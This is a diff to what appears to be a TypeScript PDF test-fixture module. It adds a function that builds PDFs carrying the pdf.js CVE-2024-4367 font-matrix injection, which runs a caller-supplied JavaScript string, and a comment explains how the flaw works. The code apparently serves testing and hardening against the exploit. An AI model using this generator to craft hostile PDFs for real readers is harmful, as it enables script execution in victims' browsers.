@@ -569,3 +569,48 @@ export function makeScannedPdf(options: { pages?: number; info?: PdfInfo } = {})
 export function truncate(bytes: Uint8Array, fraction = 0.6): Uint8Array {
   return bytes.slice(0, Math.floor(bytes.length * fraction));
 }
+
+/**
+ * The vector of pdf.js CVE-2024-4367: a font dictionary whose FontMatrix ends
+ * in a string instead of a number. pdf.js before 4.2.67 pasted the matrix
+ * into the source of a glyph-drawing function it compiled with `new
+ * Function`, so the string closes the call and runs `injected`:
+ * `c.transform(1,0,0,1,0,0); <injected>; (0)`. The font is a Type1 font used
+ * for one line of text (so a reader loads it while extracting text); its
+ * program is not embedded, as in the published proof of concept's own
+ * fallback path. The other lines use Helvetica.
+ */
+export function makeFontMatrixPdf(options: { injected: string; lines: string[]; info?: PdfInfo }): Uint8Array {
+  const file = new PdfFile();
+  const text = helvetica(file);
+  const descriptor = file.add({
+    Type: N('FontDescriptor'),
+    FontName: N('SNCSTG+CMBX12'),
+    Flags: 4,
+    FontBBox: [-53, -251, 1139, 750],
+    ItalicAngle: 0,
+    Ascent: 694,
+    Descent: -194,
+    CapHeight: 686,
+    StemV: 109,
+  });
+  const hostile = file.add({
+    Type: N('Font'),
+    Subtype: N('Type1'),
+    BaseFont: N('SNCSTG+CMBX12'),
+    FontDescriptor: descriptor,
+    Encoding: N('WinAnsiEncoding'),
+    FontMatrix: [1, 0, 0, 1, 0, new PdfString(latin1(`0); ${options.injected}; (0`))],
+  });
+  const ops: string[] = [];
+  let y = PAGE_HEIGHT - MARGIN;
+  options.lines.forEach((line, i) => {
+    // The first line is drawn with the hostile font, the rest with Helvetica.
+    const font = i === 0 ? 'F2' : 'F1';
+    ops.push(`BT /${font} 11 Tf 1 0 0 1 ${MARGIN} ${y.toFixed(2)} Tm ${text.show(line)} Tj ET`);
+    y -= 22;
+  });
+  return assemblePdf(file, [{ ops: ops.join('\n') + '\n', fonts: { F1: text.resource, F2: hostile } }], {
+    info: options.info,
+  });
+}
